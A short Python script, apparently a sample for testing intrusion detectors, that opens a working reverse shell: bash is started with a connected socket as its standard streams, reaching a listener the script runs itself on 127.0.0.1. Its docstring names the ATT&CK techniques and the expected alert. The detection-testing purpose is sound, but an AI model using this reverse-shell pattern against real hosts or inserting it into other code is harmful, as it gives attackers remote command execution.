# technique: T1059.004 T1095
"""Reverse shell through subprocess.Popen with the socket object as stdin/stdout/stderr (T1059.004, T1095).

No os.dup2 in Python: the connected socket object itself is passed to
subprocess.Popen as stdin, stdout and stderr, and _posixsubprocess wires
its descriptor onto 0/1/2 in the child. The shell is bash reached as
"/usr/bin/env bash".

A good detector raises a critical alert: a shell is started whose
standard streams are a network socket.
"""
import socket
import subprocess
import threading

def start_operator(commands=b"echo operator-sees-$(id -u)\nexit\n"):
    """Our own peer on 127.0.0.1: accepts one connection, types commands, reads until the shell ends."""
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(4)
    transcript = []

    def operator():
        try:
            conn, _ = listener.accept()
        except OSError:
            return
        conn.settimeout(3)
        conn.sendall(commands)
        data = b""
        try:
            while True:
                chunk = conn.recv(4096)
                if not chunk:
                    break
                data += chunk
        except OSError:
            pass
        transcript.append(data)
        conn.close()

    thread = threading.Thread(target=operator, daemon=True)
    thread.start()
    return listener.getsockname()[1], thread, transcript

port, operator, transcript = start_operator()
sock = socket.socket()
sock.connect(("127.0.0.1", port))
proc = subprocess.Popen(["/usr/bin/env", "bash", "--noprofile", "--norc"], stdin=sock, stdout=sock, stderr=sock)
sock.close()
proc.wait(timeout=5)
operator.join(3)
print("operator transcript:", transcript)
